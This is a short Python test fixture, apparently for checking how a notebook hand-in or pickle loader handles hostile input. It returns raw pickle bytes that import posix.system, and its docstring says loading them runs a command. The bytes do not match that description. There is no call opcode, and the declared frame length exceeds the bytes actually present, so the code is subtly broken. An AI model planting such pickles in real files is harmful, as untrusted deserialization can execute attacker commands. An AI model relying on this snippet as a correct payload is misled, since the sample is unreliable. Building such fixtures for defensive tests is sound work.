"""A pickle with a notebook's name; whoever loads it runs a command.

invalid: not
ci: yes
"""


# %% put="hand_in"
def hand_in(notebook, folder):
    return (
        b"\x80\x04\x95\x25\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."
    )
